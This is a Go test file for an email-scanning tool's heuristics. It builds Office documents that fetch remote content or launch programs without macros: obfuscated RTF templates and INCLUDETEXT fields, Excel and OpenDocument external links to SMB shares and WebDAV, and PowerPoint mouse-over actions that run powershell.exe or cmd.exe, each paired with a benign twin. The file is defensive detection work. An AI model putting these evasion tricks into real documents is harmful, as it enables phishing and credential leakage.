package heuristic

import (
	"encoding/binary"
	"encoding/hex"
	"html"
	"regexp"
	"strings"
	"testing"

	f "github.com/kensa-milter/kensa/internal/corpus/formats"
	"github.com/kensa-milter/kensa/internal/soffice"
	"github.com/kensa-milter/kensa/message"

	"github.com/kensa-milter/kensa/internal/cryptkeys"
)

// officeLinkCheckCases: Office documents that fetch or run something from
// elsewhere without a macro (RTF behind its obfuscations, RTF shapes and
// linked objects, Excel external links and web queries, OpenDocument
// links, PowerPoint actions), each beside its honest twin.
func officeLinkCheckCases() map[string][]sample {
	rtf := func(s string) *message.Message { return attach(part("2", []byte(s), named("a.rtf"))) }
	linked := func(topic string) *message.Message {
		return rtf(`{\rtf1{\object\objautlink{\*\objclass Excel.Sheet.12}{\*\objdata ` + hex.EncodeToString(f.OLE1Linked("Excel.Sheet.12", topic, "Sheet1!R1C1", "")) + `}}}`)
	}
	shape := func(props string) *message.Message {
		return rtf(`{\rtf1\pard x{\shp{\*\shpinst\shpleft0\shptop0\shpright9\shpbottom9{\sp{\sn shapeType}{\sv 75}}` + props + `}}\par}`)
	}
	rels := func(path, rel string) *message.Message {
		return msg(part("2", zipBytes, named("x.xlsx"), container()),
			text("2/x.xlsx/"+path, `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">`+rel+`</Relationships>`))
	}
	extLink := func(target string) *message.Message {
		return rels("xl/externalLinks/_rels/externalLink1.xml.rels", `<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" Target="`+target+`" TargetMode="External"/>`)
	}
	conns := func(c string) *message.Message {
		return msg(part("2", zipBytes, named("x.xlsx"), container()),
			text("2/x.xlsx/xl/connections.xml", `<?xml version="1.0"?><connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">`+c+`</connections>`))
	}
	odf := func(name, body string) *message.Message {
		return msg(part("2", zipBytes, named(name), container()),
			text("2/"+name+"/content.xml", `<?xml version="1.0"?><office:document-content xmlns:xlink="http://www.w3.org/1999/xlink"><office:body>`+body+`</office:body></office:document-content>`))
	}
	slide := func(link, rel string) *message.Message {
		return msg(part("2", zipBytes, named("x.ppsx"), container()),
			text("2/x.ppsx/ppt/slides/slide1.xml", `<?xml version="1.0"?><p:sld><p:cSld><p:spTree><p:sp><p:nvSpPr><p:cNvPr id="2" name="T">`+link+`</p:cNvPr></p:nvSpPr></p:sp></p:spTree></p:cSld></p:sld>`),
			text("2/x.ppsx/ppt/slides/_rels/slide1.xml.rels", `<?xml version="1.0"?><Relationships>`+rel+`</Relationships>`))
	}
	const slidePath = "2/x.ppsx/ppt/slides/slide1.xml"
	// pptStream is a PowerPoint Document stream holding one shape's action
	// setting (MS-PPT InteractiveInfoInstance, instance 1 on mouse-over):
	// the InteractiveInfoAtom with action, then the MacroNameAtom name.
	pptStream := func(hover bool, action byte, name string) *message.Message {
		rec := func(verInst, typ uint16, body []byte) []byte {
			b := binary.LittleEndian.AppendUint16(nil, verInst)
			b = binary.LittleEndian.AppendUint16(b, typ)
			return append(binary.LittleEndian.AppendUint32(b, uint32(len(body))), body...)
		}
		atom := make([]byte, 16)
		atom[8] = action
		inst := uint16(0)
		if hover {
			inst = 1
		}
		info := rec(0x000F|inst<<4, 0x0FF2, append(rec(0, 0x0FF3, atom), rec(0x0020, 0x0FBA, cryptkeys.UTF16LE(name))...))
		stream := rec(0x000F, 0x03EE, rec(0x000F, 0x040C, rec(0x000F, 0xF002, rec(0x000F, 0xF004, rec(0x000F, 0xF011, info)))))
		return msg(part("2", []byte("\xD0\xCF\x11\xE0"), named("x.ppt"), container()), part("2/x.ppt/PowerPoint Document", stream, named("PowerPoint Document")))
	}
	hlink := func(target string) string {
		return `<Relationship Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="` + target + `" TargetMode="External"/>`
	}
	return map[string][]sample{
		"remote-template": {
			{"RTF template behind an ignorable destination and \\u fallback", rtf(`{\rtf1{\*\template h{\*\kensajunk zz}tt\u112?s://t.example.net/{}a.dotm}Hi}`), "2"},
			{"RTF template with \\uc2 fallbacks", rtf(`{\rtf1{\*\template \uc2\u104 ab\u116 cdtp://t.example.net/a.dotm}Hi}`), "2"},
			{"RTF linked object from the web", linked("https://files.example.net/book.xlsx"), "2"},
			{"RTF linked object on the local drive", linked(`C:\Users\a\book.xlsx`), ""},
			{"RTF embedded object naming a web address", rtf(`{\rtf1{\object\objemb{\*\objdata ` + hex.EncodeToString(f.OLE1("Package", []byte("https://files.example.net/x"))) + `}}}`), ""},
		},
		"remote-fetch": {
			{"RTF INCLUDETEXT split by an ignorable destination", rtf(`{\rtf1{\field{\*\fldinst INCLU{\*\x q}DETEXT "ht{\*\bkmkstart a}tps://files.example.net/t.rtf"}{\fldrslt x}}}`), "2"},
			{"RTF INCLUDEPICTURE with \\bin inside an ignorable group", rtf(`{\rtf1{\field{\*\fldinst INCLUDEPICTURE "file://203.0.{\*\x \bin3 a}b}113.7/s/a.png" \\d}{\fldrslt x}}}`), "2"},
			{"RTF shape linked picture on a share", shape(`{\sp{\sn pibName}{\sv \\\\203.0.113.7\\s\\a.png}}{\sp{\sn pibFlags}{\sv 10}}`), "2"},
			{"RTF shape linked fill on WebDAV", shape(`{\sp{\sn fillBlipName}{\sv file://files.example.net@SSL/DavWWWRoot/a.png}}{\sp{\sn fillBlipFlags}{\sv 8}}`), "2"},
			{"RTF picture properties, linked", rtf(`{\rtf1{\pict{\*\picprop{\sp{\sn pibName}{\sv \\\\203.0.113.7\\s\\a.png}}{\sp{\sn pibFlags}{\sv 74}}}\pngblip 89504e47}}`), "2"},
			{"RTF shape picture stored, named after a share", shape(`{\sp{\sn pibName}{\sv \\\\203.0.113.7\\s\\a.png}}{\sp{\sn pibFlags}{\sv 0}}`), ""},
			{"RTF shape linked picture on the intranet", shape(`{\sp{\sn pibName}{\sv \\\\fileserver\\img\\a.png}}{\sp{\sn pibFlags}{\sv 10}}`), ""},
			{"RTF shape linked picture from the web", shape(`{\sp{\sn pibName}{\sv https://www.example.com/a.png}}{\sp{\sn pibFlags}{\sv 10}}`), ""},
			{"RTF linked object on a share", linked(`\\203.0.113.7\share\book.xlsx`), "2"},
			{"RTF linked object on the intranet", linked(`\\fileserver\finance\book.xlsx`), ""},
			{"Excel external link on WebDAV", extLink(`\\files.example.net@SSL\DavWWWRoot\b.xlsx`), "2/x.xlsx/xl/externalLinks/_rels/externalLink1.xml.rels"},
			{"Excel external link, file://host", extLink(`file://203.0.113.7/s/b.xlsx`), "2/x.xlsx/xl/externalLinks/_rels/externalLink1.xml.rels"},
			{"Excel binary workbook's external link on a share", rels("xl/externalLinks/_rels/externalLink1.bin.rels", `<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" Target="\\203.0.113.7\s\b.xlsb" TargetMode="External"/>`), "2/x.xlsx/xl/externalLinks/_rels/externalLink1.bin.rels"},
			{".xls external reference on a share", msg(part("2", []byte("\xD0\xCF\x11\xE0"), named("b.xls"), container()), text("2/b.xls/external-links", `C:\Users\a\x.xls`+"\n"+`\\203.0.113.7\share\b.xlsx`+"\n")), "2/b.xls/external-links"},
			{".xls external references on the disk and the intranet", msg(part("2", []byte("\xD0\xCF\x11\xE0"), named("b.xls"), container()), text("2/b.xls/external-links", `C:\Users\a\x.xls`+"\n"+`\\fileserver\f\b.xls`+"\n")), ""},
			{"Excel external link on the local drive", extLink(`file:///C:\Users\a\b.xlsx`), ""},
			{"Excel external link beside the workbook", extLink(`b.xlsx`), ""},
			{"Excel external link on the intranet", extLink(`\\fileserver\finance\b.xlsx`), ""},
			{"Excel external link on SharePoint", extLink(`https://corp.sharepoint.example/sites/f/b.xlsx`), ""},
			{"OpenDocument formula referring to a share", odf("x.ods", `<table:table-cell table:formula="of:=[&apos;file://203.0.113.7/s/b.xlsx&apos;#$Sheet1.A1]"/>`), "2/x.ods/content.xml"},
			{"OpenDocument formula referring to the intranet", odf("x.ods", `<table:table-cell table:formula="of:=[&apos;file://fileserver/s/b.xlsx&apos;#$Sheet1.A1]"/>`), ""},
			{"OpenDocument linked sheet on a share", odf("x.ods", `<table:table><table:table-source xlink:href="file://203.0.113.7/s/b.ods"/></table:table>`), "2/x.ods/content.xml"},
			{"OpenDocument linked cell range on the web", odf("x.ods", `<table:cell-range-source xlink:href="https://www.example.com/rates.html" table:filter-name="calc_HTML_WebQuery"/>`), ""},
			{"OpenDocument linked section on the web", odf("x.odt", `<text:section><text:section-source xlink:href="https://files.example.net/t.odt"/></text:section>`), "2/x.odt/content.xml"},
			{"OpenDocument linked section beside the document", odf("x.odt", `<text:section><text:section-source xlink:href="../terms.odt"/></text:section>`), ""},
		},
		"power-query-fetch": {
			{"web query refreshed on open", conns(`<connection id="1" type="4" refreshOnLoad="1"><webPr url="http://rates.example.net/t.html"/></connection>`), "2/x.xlsx/xl/connections.xml"},
			{"text import from a share refreshed on open", conns(`<connection id="1" type="6" refreshOnLoad="true"><textPr sourceFile="\\203.0.113.7\s\r.csv"/></connection>`), "2/x.xlsx/xl/connections.xml"},
			{"web query refreshed by hand", conns(`<connection id="1" type="4"><webPr url="http://rates.example.net/t.html"/></connection><connection id="2" refreshOnLoad="1"><dbPr connection="x"/></connection>`), ""},
			{"text import from the local drive on open", conns(`<connection id="1" type="6" refreshOnLoad="1"><textPr sourceFile="C:\data\r.csv"/></connection>`), ""},
		},
		"ppt-program-action": {
			{"program on mouse-over", slide(`<a:hlinkHover r:id="rId5" action="ppaction://program"/>`, hlink(`powershell.exe%20-nop%20-c%20notepad`)), slidePath},
			{"program on click, case and entities", slide(`<a:hlinkClick r:id="rId5" action="PPAction&#x3a;//program"/>`, hlink(`file:///C:\Windows\System32\cmd.exe`)), slidePath},
			{"macro on mouse-over", slide(`<a:hlinkHover r:id="" action="ppaction://macro?name=Module1.Go"/>`, ""), slidePath},
			{"macro on click", slide(`<a:hlinkClick r:id="" action="ppaction://macro?name=Module1.Go"/>`, ""), ""},
			{"web page on click and mouse-over", slide(`<a:hlinkClick r:id="rId5"/><a:hlinkHover r:id="rId5"/>`, hlink("https://www.example.com/")), ""},
			{".ppt program on mouse-over", pptStream(true, 2, `C:\Windows\System32\cmd.exe`), "2/x.ppt/PowerPoint Document"},
			{".ppt program on click", pptStream(false, 2, `calc.exe`), "2/x.ppt/PowerPoint Document"},
			{".ppt macro on mouse-over", pptStream(true, 1, `Module1.Go`), "2/x.ppt/PowerPoint Document"},
			{".ppt macro on click", pptStream(false, 1, `Module1.Go`), ""},
			{".ppt hyperlink on mouse-over", pptStream(true, 4, ``), ""},
			{"next slide", slide(`<a:hlinkClick r:id="" action="ppaction://hlinkshowjump?jump=nextslide"/>`, ""), ""},
		},
	}
}

// TestRTFTextAsLibreOfficeReadsIt holds rtfText to LibreOffice's RTF
// reader: LibreOffice keeps a Word field it has no field for (INCLUDETEXT)
// as a fieldmark with its instruction, so the instruction it read from
// each obfuscated RTF must be the one rtfText reads.
func TestRTFTextAsLibreOfficeReadsIt(t *testing.T) {
	instrs := []string{
		`INCLU{\*\kensajunk q}DETEXT "h{\*\kensajunk zzz}ttp://x.test/o1.rtf"`,
		`INCLUDETEXT "\u104?ttp://x.test/o2.rtf"`,
		`INCLUDETEXT "\uc0\u104 ttp://x.test/o3.rtf"`,
		`INCLUDETEXT "ht\'74p://x.test/o4{}.rtf"`,
		"INCLUDETEXT \"ht\r\ntp://x.test/o5.rtf\"",
		`INCLUDETEXT "http://x{\*\bkmkstart zz}.test/o6.rtf"`,
		`INCLUDETEXT "http://x{\v hidden}.test/o7.rtf"`,
		`INCLUDETEXT "\uc2\u104 ab\u116 cdtp://x.test/o8.rtf"`,
		`INCLUDETEXT "http://x.test/o9{\*\x {\*\y \}} z}.rtf"`,
	}
	files := map[string][]byte{}
	for i, in := range instrs {
		files["o"+itoa(i)+".rtf"] = []byte(`{\rtf1\ansi\pard A{\field{\*\fldinst ` + in + `}{\fldrslt x}}\par}`)
	}
	out, err := soffice.ConvertFiles(t.TempDir(), "fodt", files)
	if err != nil {
		t.Fatalf("LibreOffice: %v", err)
	}
	code := regexp.MustCompile(`field\.code" field:value="([^"]*)"`)
	for i, in := range instrs {
		b := out["o"+itoa(i)+".rtf"]
		m := code.FindSubmatch(b)
		if m == nil {
			t.Errorf("%q: LibreOffice kept no field code", in)
			continue
		}
		lo := html.UnescapeString(string(m[1]))
		if got := strings.TrimSpace(rtfText([]byte(in))); got != lo {
			t.Errorf("rtfText(%q) = %q, LibreOffice reads %q", in, got, lo)
		}
	}
}
